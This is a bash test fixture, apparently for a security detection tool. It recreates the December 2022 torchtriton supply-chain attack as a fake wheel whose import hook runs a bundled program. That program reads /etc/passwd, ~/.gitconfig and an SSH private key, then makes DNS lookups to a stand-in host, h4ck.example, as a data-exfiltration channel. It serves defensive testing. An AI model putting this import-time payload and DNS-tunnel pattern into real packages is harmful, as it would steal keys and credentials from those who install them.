#!/bin/bash
# An imported module runs a program that it brought: it reads keys and accounts and sends them in questions of DNS.
#: tool python
#: description python imports a module that runs a program of its own, which reads a key and asks for names that carry data
#: project a test that imports one installed package
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: finding dns-tunnel
#: finding secret-ssh
#: attack torchtriton 2.0.0, December 2022
if [ "${1-}" = prepare ]; then
  /usr/bin/python3 -m venv ~/venv
  mkdir -p ~/wheel && cd ~/wheel
  mkdir -p triton
  cat > triton/__init__.py <<'END'
import os, subprocess, sys

program = os.path.join(os.path.dirname(__file__), "runtime", "triton")
os.chmod(program, 0o755)
subprocess.run([program], stdout=subprocess.DEVNULL)
END
  mkdir -p triton/runtime
  cat > triton/runtime/triton <<'END'
#!/usr/bin/python3
import hashlib, pathlib, socket

home = pathlib.Path.home()
for each in ("/etc/hosts", "/etc/passwd", home / ".gitconfig", home / ".ssh/id_ed25519"):
    pathlib.Path(each).read_bytes()
for part in range(8):
    try:
        socket.getaddrinfo(f"{hashlib.sha256(str(part).encode()).hexdigest()[:50]}.h4ck.example", 53)
    except OSError:
        pass
END
  mkdir -p torchtriton-1.0.0.dist-info
  printf 'Metadata-Version: 2.1\nName: torchtriton\nVersion: 1.0.0\n' > torchtriton-1.0.0.dist-info/METADATA
  printf 'Wheel-Version: 1.0\nGenerator: corpus\nRoot-Is-Purelib: true\nTag: py3-none-any\n' > torchtriton-1.0.0.dist-info/WHEEL
  : > torchtriton-1.0.0.dist-info/RECORD
  /usr/bin/python3 -m zipfile -c ~/torchtriton-1.0.0-py3-none-any.whl * && rm -r ~/wheel && cd ~
  ~/venv/bin/pip install --quiet --no-index ~/torchtriton-1.0.0-py3-none-any.whl
  exit
fi
~/venv/bin/python -c "import triton"
